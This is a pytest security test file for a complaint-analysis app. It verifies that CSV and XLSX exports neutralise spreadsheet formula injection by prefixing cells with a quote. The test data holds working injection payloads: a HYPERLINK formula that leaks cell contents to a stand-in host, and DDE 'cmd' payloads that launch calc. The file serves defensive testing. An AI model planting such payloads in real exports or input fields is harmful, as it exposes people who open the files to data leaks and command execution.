"""Issue 17 §5: exports cannot carry formulas (CSV / formula injection, OWASP).

Enterprise-written text beginning with `=`, `+`, `-`, `@`, tab or carriage return reaches the
analysts' CSV and XLSX downloads; every such cell must come out prefixed with `'`, XLSX text cells
must be strings (never data type "f"), and numbers must stay numbers.
"""
from __future__ import annotations

import pytest

from app.api.export import to_csv, to_xlsx
from app.demo.data import ENTERPRISES
from app.domain.spreadsheet import FORMULA_TRIGGERS, neutralise
from app.services.signals.common_problems import clear_cache
from app.services.routing.label_review import write_review_csv
from tests.security.export_checks import (assert_csv_safe, assert_xlsx_safe, csv_cells,
                                          xlsx_cells)
from tests.signals_support import BACKGROUND

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
# What a spreadsheet would run: each trigger first, then a formula-looking rest.
PAYLOADS = {"=": HYPERLINK, "+": "+1+cmd|' /C calc'!A0", "-": "-2+3+cmd|' /C calc'!A0",
            "@": "@SUM(1+9)*cmd|' /C calc'!A0", "\t": "\t=1+2", "\r": "\r=1+2"}
INSIGHT_TABLES = ("metrics", "trend", "units", "hotspots", "towns")


@pytest.fixture(autouse=True)
def _fresh_problems():
    clear_cache()
    yield
    clear_cache()


def _submit_payload_cases(api) -> None:
    """Through the intake API: for each trigger two enterprises send the same demand whose text
    and town begin with it (the intake strips leading whitespace, so tab and CR arrive as the
    formula that follows them)."""
    for i, (trigger, payload) in enumerate(PAYLOADS.items()):
        for enterprise in (2 * i, 2 * i + 1):
            body = {"kind": "投诉", "description": f"{payload}，{BACKGROUND[i]}",
                    "credit_code": ENTERPRISES[enterprise]["credit_code"], "domain": "城市管理",
                    "town": f"{trigger}镇{i}", "contact_name": payload[:50]}
            response = api.as_("agent1").post("/api/cases", json=body)
            assert response.status == 201, response


def _download(api, path: str, fmt: str) -> bytes:
    response = api.client.get(f"{path}?format={fmt}",
                              headers={"Authorization": f"Bearer {api.token('analyst1')}"})
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data()


def test_every_export_of_every_table_neutralises_enterprise_text(api):
    _submit_payload_cases(api)
    paths = [f"/api/insight/{table}" for table in INSIGHT_TABLES] + ["/api/insight/common-problems"]
    text = {}
    for path in paths:
        csv_cells_ = assert_csv_safe(_download(api, path, "csv"))
        xlsx = assert_xlsx_safe(_download(api, path, "xlsx"))
        text[path] = csv_cells_ + [c.value for c in xlsx if isinstance(c.value, str)]
    # The payloads did reach the files, shown as typed behind the quote.
    problems = " ".join(text["/api/insight/common-problems"])
    for payload in ("'=HYPERLINK(", "'=1+2，", "'+1+cmd", "'-2+3+cmd", "'@SUM(1+9)"):
        assert payload in problems, (payload, problems[:500])
    towns = text["/api/insight/towns"]
    assert "'=镇0" in towns and "'@镇3" in towns and "'-镇2" in towns


def test_each_trigger_is_prefixed_and_numbers_stay_numbers():
    columns = [("text", "内容"), ("change", "变化"), ("share", "占比（%）"), ("towns", "镇街")]
    rows = [{"text": payload, "change": -3, "share": -12.5, "towns": [payload, "小榄镇"]}
            for payload in PAYLOADS.values()]
    cells = assert_csv_safe(to_csv(columns, rows))
    for payload in PAYLOADS.values():
        assert "'" + payload in cells
    assert cells.count("-3") == len(PAYLOADS) and cells.count("-12.5") == len(PAYLOADS)

    xlsx = assert_xlsx_safe(to_xlsx(columns, rows, sheet="t"))
    values = [c.value for c in xlsx]
    for payload in PAYLOADS.values():
        assert "'" + payload in values
    numbers = [c for c in xlsx if c.column_letter in "BC" and c.row > 1]
    assert all(c.data_type == "n" and c.value < 0 for c in numbers), numbers


def test_plain_text_and_non_text_are_unchanged():
    assert neutralise("小榄镇 =1") == "小榄镇 =1"
    assert neutralise(-3) == -3 and neutralise(-0.5) == -0.5 and neutralise(None) is None
    assert all(neutralise(t + "x") == "'" + t + "x" for t in FORMULA_TRIGGERS)
    cells = csv_cells(to_csv([("a", "A")], [{"a": "O'Brien"}, {"a": "'=already"}]))
    assert cells == ["A", "O'Brien", "'=already"]
    assert [c.value for c in xlsx_cells(to_xlsx([("a", "A")], [{"a": "1+1"}]))] == ["A", "1+1"]


def test_routing_review_csv_neutralises_text_and_labels(tmp_path):
    """`flask qisu routing review --out`: the texts are enterprises' demands."""
    suspects = [{"ref": f"csv:{i + 2}", "label": "城市管理", "suggested": "@税务",
                 "label_proba": 0.01, "suggested_proba": 0.9, "text": payload}
                for i, payload in enumerate(PAYLOADS.values())]
    out = tmp_path / "review.csv"
    write_review_csv(str(out), suspects)
    cells = assert_csv_safe(out.read_bytes())
    assert all("'" + payload in cells for payload in PAYLOADS.values())
    assert "'@税务" in cells and "0.01" in cells
